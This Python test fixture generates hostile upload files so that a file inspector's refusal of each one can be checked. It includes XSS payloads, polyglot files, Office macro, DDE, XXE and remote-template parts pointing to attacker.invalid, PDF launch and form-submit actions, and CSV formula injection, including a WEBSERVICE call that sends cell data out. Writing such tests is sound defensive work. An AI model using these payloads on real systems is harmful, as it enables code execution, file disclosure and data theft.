"""Some 490 files that mean harm, made on the spot and always the same; `hostile_files()` is what other tests upload.

`inspect` refuses every one. What any of them did if it got through is told by `window.__hostile` and the title.
"""

import io
import random
from collections.abc import Iterator

import pikepdf

from tests.core import good_files as good
from tests.core.hostile_kinds import Hostile, archives, chunk, encrypted, films, pictures, segment

SCRIPT = "window.__hostile=1;document.title='hostile'"
PAYLOADS = (
    f"<script>{SCRIPT}</script>",
    f"<ScRiPt>{SCRIPT}</sCrIpT>",
    f'<img src=x onerror="{SCRIPT}">',
    f'<svg onload="{SCRIPT}">',
    f'<iframe srcdoc="&lt;script&gt;{SCRIPT}&lt;/script&gt;"></iframe>',
    f'<a href="javascript:{SCRIPT}">x</a>',
    f'<body onload="{SCRIPT}">',
    f'<math><mtext></mtext><img src=x onerror="{SCRIPT}"></math>',
    f"<x onclick={SCRIPT} tabindex=1 autofocus onfocus={SCRIPT}>",
)
NAMES = ("作品.svg", "作品.html", "作品.png", "作品.pdf", "作品.mp4", "作品.txt", "作品.docx", "作品.jpg")
DISGUISES = {
    "pdf": b"%PDF-1.7\n",
    "png": b"\x89PNG\r\n\x1a\n",
    "jpg": b"\xff\xd8\xff\xe0\x00\x10JFIF\0",
    "mp4": b"\0\0\0\x18ftypisom\0\0\0\0isommp41",
    "zip": b"PK\x03\x04",
    "gif": b"GIF89a",
    "mp3": b"ID3\x03\0\0\0\0\0\0",
    "webp": b"RIFF\x40\0\0\0WEBP",
}


def hostile_files() -> list[Hostile]:
    """All of them, in a fixed order."""
    makers = (markup, disguised, polyglots, documents, pdfs, archives, pictures, films, texts, programs)
    return [each for maker in makers for each in maker()]


def markup() -> Iterator[Hostile]:
    """Pages and SVG under every name."""
    for number, payload in enumerate(PAYLOADS):
        svg = f'<svg xmlns="http://www.w3.org/2000/svg">{payload}</svg>'
        for name in NAMES:
            page = f"<!DOCTYPE html><html><body>{payload}</body></html>" if number % 2 else payload
            yield Hostile(name, (svg if name.endswith((".svg", ".png")) else page).encode(), "markup")
        yield Hostile("图.svg", f'<?xml version="1.0"?>\n{svg}'.encode(), "svg")
        yield Hostile("图.svg", svg.encode("utf-16"), "svg in UTF-16")
        yield Hostile("页.txt", f"\ufeff \n\n {payload}".encode(), "markup as text")
        yield Hostile("表.csv", f"姓名,说明\n甲,{payload}\n".encode(), "markup in a cell")


def disguised() -> Iterator[Hostile]:
    """A page with another format's first bytes; a sound file with a page's name."""
    for ending, head in DISGUISES.items():
        for payload in PAYLOADS[:4]:
            page = f"<html>{payload}</html>".encode()
            yield Hostile(f"作品.{ending}", head + page, "signature in front of a page")
            yield Hostile(f"作品.{ending}.html", head + page, "signature in front of a page, page's name")
    for name, content in good.good_files().items():
        for ending in (".html", ".svg", ".exe", ".htm", ""):
            yield Hostile(name.rpartition(".")[0] + ending, content, "sound content, name that runs")


def polyglots() -> Iterator[Hostile]:
    """Two formats in one file."""
    page, inner = f"<html>{PAYLOADS[0]}</html>".encode(), good.archive()
    hosts = {"a.png": good.png(64, 64), "a.jpg": good.jpeg(64, 64), "a.pdf": good.pdf(pages=1), "a.mp4": good.film(2)}
    hosts |= {"a.mp3": good.mp3(1)}
    for name, host in hosts.items():
        yield Hostile(name, host + inner, "zip behind")
        yield Hostile(name, host + page, "page behind")
        if not name.endswith(".pdf"):
            yield Hostile(name, host + good.pdf(pages=1) + page, "pdf and page behind")
    for name, content in (("a.zip", inner), ("a.docx", good.word()), ("a.pptx", good.slides())):
        yield Hostile(name, page + content, "page before a zip")
        yield Hostile(name, content + page, "page behind a zip")
        yield Hostile(name, b"MZ\x90\0" + bytes(60) + content, "program before a zip")
    for name in ("a.png", "a.jpg"):
        at = 33 if name.endswith("png") else 2
        text = chunk(b"tEXt", b"Comment\0" + page) if name.endswith("png") else segment(0xFE, page)
        yield Hostile(name, hosts[name][:at] + text + hosts[name][at:], "page in a comment")
        text = chunk(b"tEXt", b"Comment\0%PDF-1.4") if name.endswith("png") else segment(0xFE, b"%PDF-1.4")
        yield Hostile(name, hosts[name][:at] + text + hosts[name][at:], "pdf in a comment")
    free = b"".join((len(page) + 8).to_bytes(4, "big") + b"free" + page for _ in range(1))
    yield Hostile("a.mp4", hosts["a.mp4"] + free, "page in a free box")


def documents() -> Iterator[Hostile]:
    """Office documents that run, fetch or lie."""
    relations = (
        '<Relationships xmlns="r"><Relationship Id="x" Type="t/{}" Target="{}" TargetMode="External"/></Relationships>'
    )
    field = '<w:document xmlns:w="w"><w:body><w:p><w:r><w:instrText>{}</w:instrText></w:r></w:p></w:body></w:document>'
    wide = "_VBA_PROJECT".encode("utf-16-le")
    for base, folder, ending in ((good.word(), "word", "docx"), (good.slides(), "ppt", "pptx")):
        extra: dict[str, str | bytes] = {
            f"{folder}/vbaProject.bin": b"\xd0\xcf\x11\xe0" + wide,
            f"{folder}/media/x.bin": wide,
            f"{folder}/activeX/activeX1.xml": "<ax:ocx xmlns:ax='a'/>",
            f"{folder}/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + "\x01Ole10Native".encode("utf-16-le"),
            f"{folder}/embeddings/a.exe": b"MZ\x90\0",
            f"{folder}/embeddings/b.docx": good.archive({"word/vbaProject.bin": "x"}),
            f"{folder}/a.html": "<script>1</script>",
            f"{folder}/media/a.svg": f"<svg>{PAYLOADS[0]}</svg>",
            f"{folder}/extra.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]><a>&b;</a>',
            f"{folder}/bomb.xml": '<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>',
            f"{folder}/object.xml": '<o:OLEObject xmlns:o="o" ProgID="Package"/>',
            f"{folder}/action.xml": '<a:h xmlns:a="a" action="ppaction://program"/>',
            f"{folder}/broken.xml": "<a><b></a>",
            f"{folder}/dde.xml": field.format("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"),
        }
        for number, (kind, target) in enumerate(
            (
                ("attachedTemplate", "http://attacker.invalid/a.dotm"),
                ("attachedTemplate", "\\\\attacker.invalid\\a.dotm"),
                ("oleObject", "https://attacker.invalid/a"),
                ("frame", "http://attacker.invalid/"),
                ("hyperlink", "javascript:alert(1)"),
                ("hyperlink", "ms-msdt:/id"),
            )
        ):
            extra[f"{folder}/_rels/extra{number}.xml.rels"] = relations.format(kind, target)
        for part, content in extra.items():
            yield Hostile(f"作品.{ending}", good.archive(good.parts_of(base) | {part: content}), part)
        types = b'<Types xmlns="c"><Override ContentType="application/vnd.ms-x.macroEnabled.main+xml"/></Types>'
        yield Hostile(
            f"作品.{ending}", good.archive(good.parts_of(base) | {"[Content_Types].xml": types}), "macro type"
        )
        yield Hostile(f"作品.{ending}", base[: len(base) // 2], "half a document")
        yield Hostile(f"作品.{ending}", encrypted(base), "encrypted flag")
        bomb = good.parts_of(base) | {f"{folder}/bomb.bin": bytes(60 * 1024 * 1024)}
        yield Hostile(f"作品.{ending}", good.archive(bomb), "bomb")
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    for name in ("旧.doc", "旧.ppt", "旧.docx", "旧.pdf"):
        yield Hostile(name, ole + "WordDocument".encode("utf-16-le"), "old office")
        yield Hostile(name, ole + "EncryptedPackage".encode("utf-16-le"), "password")
        yield Hostile(name, ole + wide, "old office with macros")


def pdfs() -> Iterator[Hostile]:
    """PDFs that act."""
    name, text = pikepdf.Name, pikepdf.String
    script = pikepdf.Dictionary(S=name.JavaScript, JS=text("app.alert(1)"))
    actions = {
        "script": script,
        "launch": pikepdf.Dictionary(S=name.Launch, F=text("cmd.exe")),
        "form": pikepdf.Dictionary(S=name.SubmitForm, F=text("http://attacker.invalid/")),
        "import": pikepdf.Dictionary(S=name.ImportData, F=text("a.fdf")),
        "other file": pikepdf.Dictionary(S=name.GoToR, F=text("\\\\attacker.invalid\\a"), D=pikepdf.Array([0])),
        "inner file": pikepdf.Dictionary(S=name.GoToE, F=text("a.pdf")),
        "script address": pikepdf.Dictionary(S=name.URI, URI=text("javascript:alert(1)")),
        "file address": pikepdf.Dictionary(S=name.URI, URI=text("file:///etc/passwd")),
    }
    for why, action in actions.items():
        yield pdf(why + " on opening", lambda document, a=action: document.Root.__setitem__("/OpenAction", a))
        yield pdf(
            why + " on a page", lambda document, a=action: document.pages[0].__setitem__("/AA", pikepdf.Dictionary(O=a))
        )
        link = pikepdf.Dictionary(Type=name.Annot, Subtype=name.Link, Rect=[0, 0, 600, 800], A=action)
        yield pdf(
            why + " in a link", lambda document, k=link: document.pages[0].__setitem__("/Annots", pikepdf.Array([k]))
        )
    names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([text("a"), script])))
    yield pdf("script by name", lambda document: document.Root.__setitem__("/Names", names))
    form = pikepdf.Dictionary(Fields=pikepdf.Array([]), XFA=text("<xdp/>"))
    yield pdf("XFA", lambda document: document.Root.__setitem__("/AcroForm", form))
    for kind in ("RichMedia", "Screen", "Movie", "Sound", "FileAttachment"):
        note = pikepdf.Dictionary(Type=name.Annot, Subtype=name(f"/{kind}"), Rect=[0, 0, 9, 9])
        yield pdf(kind, lambda document, n=note: document.pages[0].__setitem__("/Annots", pikepdf.Array([n])))

    def attach(document: pikepdf.Pdf) -> None:
        document.attachments["a.exe"] = b"MZ\x90\0"

    yield pdf("attachment", attach)
    for permissions in (b"secret",):
        out = io.BytesIO()
        with pikepdf.open(io.BytesIO(good.pdf())) as document:
            document.save(out, encryption=pikepdf.Encryption(owner="o", user=permissions.decode()))
        yield Hostile("密.pdf", out.getvalue(), "password")
    whole = good.pdf()
    yield Hostile("断.pdf", whole[:300], "cut off")
    yield Hostile("空.pdf", b"%PDF-1.7\n%%EOF", "nothing in it")
    yield Hostile("后.pdf", b"\n" * 20 + whole, "signature not at the beginning")
    yield Hostile("多.pdf", good.pdf(pages=1001), "too many pages")


def pdf(why: str, change) -> Hostile:
    """A sound PDF, changed."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(good.pdf(pages=1))) as document:
        change(document)
        document.save(out)
    return Hostile("作品.pdf", out.getvalue(), why)


def texts() -> Iterator[Hostile]:
    """Cells that run, bytes that are no text."""
    for cell in (
        "=cmd|'/C calc'!A0",
        "+cmd|' /C notepad'!'A1'",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '=HYPERLINK("http://a.invalid")',
        '=WEBSERVICE("http://a.invalid/"&A1)',
        "-2+3+cmd|' /C calc'!A0",
    ):
        yield Hostile("表.csv", f"姓名,得分\n甲,{cell}\n".encode(), "cell that runs")
    for content in (
        b"\x00\x01\x02",
        b"abc\x00def",
        b"\xff\xfe\x00\x00",
        b"\x1b[31mred",
        b"abc\x08",
        b"\x80\x81\xff" * 20,
    ):
        yield Hostile("文.txt", content, "no text")
    yield Hostile("文.txt", b"a" * 5000 + b"\0", "zero far in")
    yield Hostile("文.txt", b"a" * 5000 + PAYLOADS[0].encode(), "page far in")
    yield Hostile("空.txt", b"", "empty")


def programs() -> Iterator[Hostile]:
    """Programs and formats nobody asked for."""
    heads = (
        b"MZ\x90\0",
        b"\x7fELF\x02\x01",
        b"#!/bin/sh\necho \0",
        b"\xca\xfe\xba\xbe",
        b"Rar!\x1a\x07\0",
        b"7z\xbc\xaf\x27\x1c",
        b"\x1f\x8b\x08\0",
        b"\0\0\0\x18ftypheic",
        b"FLV\x01",
        b"\x30\x26\xb2\x75\x8e\x66\xcf\x11",
        b"8BPS",
        b"II*\0",
        b"BM",
    )
    for head in heads:
        for name in ("作品.exe", "作品.mp4", "作品.png"):
            yield Hostile(name, head + bytes(200), "program or other format")


def mutated(seed: int) -> Hostile:
    """A sound file with a few bytes changed, cut, doubled or moved; the same for the same seed."""
    chance = random.Random(seed)
    files = sorted(good.good_files().items())
    name, content = chance.choice(files)
    data = bytearray(content)
    for _ in range(chance.randint(1, 8)):
        at = chance.randrange(len(data) or 1)
        match chance.randrange(5):
            case 0:
                data[at : at + 1] = bytes((chance.randrange(256),))
            case 1:
                data[at : at + chance.randint(1, 64)] = b""
            case 2:
                data[at:at] = data[at : at + chance.randint(1, 64)]
            case 3:
                data[at : at + 4] = chance.choice((b"\xff\xff\xff\xff", b"\0\0\0\0", b"\x7f\xff\xff\xff"))
            case _:
                data[at:at] = chance.choice([payload.encode() for payload in PAYLOADS])
    return Hostile(name, bytes(data), f"seed {seed}")
